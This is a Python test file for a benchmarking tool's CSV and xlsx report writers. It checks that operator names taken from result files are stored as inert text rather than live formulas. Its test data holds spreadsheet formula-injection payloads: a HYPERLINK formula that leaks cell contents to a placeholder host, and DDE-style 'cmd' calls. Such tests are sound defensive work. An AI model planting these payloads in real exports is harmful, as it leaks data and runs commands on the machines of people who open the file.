"""Names, inputs and reasons from result files reach spreadsheets as text, never as formulas
(``opperf.report.cells``): CSV and xlsx, of sweeps and of diffs, from real files through the CLI."""

from __future__ import annotations

import copy
import csv
import io
import json
from pathlib import Path

import pytest

from opperf.cli import main
from opperf.report.cells import FORMULA_STARTS, inert_csv_cell, reads_as_formula
from opperf.report.csv_report import render_csv
from opperf.report.xlsx import workbook_bytes
from opperf.report.xlsx_tables import results_tables

GOLDEN = Path(__file__).parent / "golden" / "results_v1.json"
HOSTILE_NAMES = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",
)


def _hostile_document() -> dict:
    """The golden results file, its operators renamed to formulas and its reasons starting with one;
    an operator name with a bell character a workbook cannot hold."""
    document = json.loads(GOLDEN.read_text())
    for index, record in enumerate(document["results"]):
        record["op"] = HOSTILE_NAMES[index % len(HOSTILE_NAMES)]
        record["function"] = f"mx.nd.{record['op']}"
        if record["reason"] is not None:
            record["reason"] = "=1+1 " + record["reason"]
    document["results"][-1]["op"] = "bell\x07name"
    return document


def test_the_rule_matches_spreadsheet_guidance():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert reads_as_formula(f"{start}x") and inert_csv_cell(f"{start}x") == f"'{start}x"
    assert set(FORMULA_STARTS) >= {"=", "+", "-", "@", "\t", "\r"}
    for value in (-1.5, -3, 0, True, None, "exp", "data=4x4", "x=-1"):
        assert inert_csv_cell(value) == value


def test_sweep_csv_neutralises_formulas_and_keeps_numbers_numbers():
    document = _hostile_document()
    rows = list(csv.DictReader(io.StringIO(render_csv(document))))
    assert len(rows) == len(document["results"])
    for row in rows:
        for value in row.values():
            assert not reads_as_formula(value), value
    assert rows[0]["op"] == "'" + HOSTILE_NAMES[0]
    assert rows[2]["op"] == "'-2+3"
    medians = [row["forward_median_s"] for row in rows if row["forward_median_s"]]
    assert medians and all(float(m) > 0 for m in medians)


def _cells(data: bytes):
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_sweep_workbook_holds_names_as_text():
    cells = _cells(workbook_bytes(results_tables(_hostile_document())))
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    named = [cell for cell in cells if cell.value == HOSTILE_NAMES[0]]
    assert named and all(cell.data_type == "s" and cell.quotePrefix for cell in named)
    assert any(cell.value == "bell\ufffdname" for cell in cells)
    assert any(cell.data_type == "n" and isinstance(cell.value, float) for cell in cells)


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_diff_of_hostile_files_is_inert(tmp_path, extension):
    """``opperf diff``'s spreadsheets of two result files whose names are formulas."""
    pytest.importorskip("openpyxl")
    base, new = tmp_path / "base.json", tmp_path / "new.json"
    document = _hostile_document()
    base.write_text(json.dumps(document))
    slower = copy.deepcopy(document)
    for record in slower["results"]:
        for phase in ("forward", "backward"):
            if record[phase]:
                record[phase]["samples_s"] = [s * 2 for s in record[phase]["samples_s"]]
                record[phase]["median_s"] *= 2
    new.write_text(json.dumps(slower))
    output = tmp_path / f"diff.{extension}"
    assert main(["diff", str(base), str(new), "--output-file", str(output)]) in (0, 1)
    if extension == "csv":
        rows = list(csv.DictReader(io.StringIO(output.read_text())))
        assert rows and all(not reads_as_formula(v) for row in rows for v in row.values())
        assert {row["op"] for row in rows} >= {"'" + HOSTILE_NAMES[1]}
        assert all(float(row["ratio"]) > 0 for row in rows if row["ratio"])
        return
    cells = _cells(output.read_bytes())
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert any(cell.value == HOSTILE_NAMES[1] and cell.quotePrefix for cell in cells)
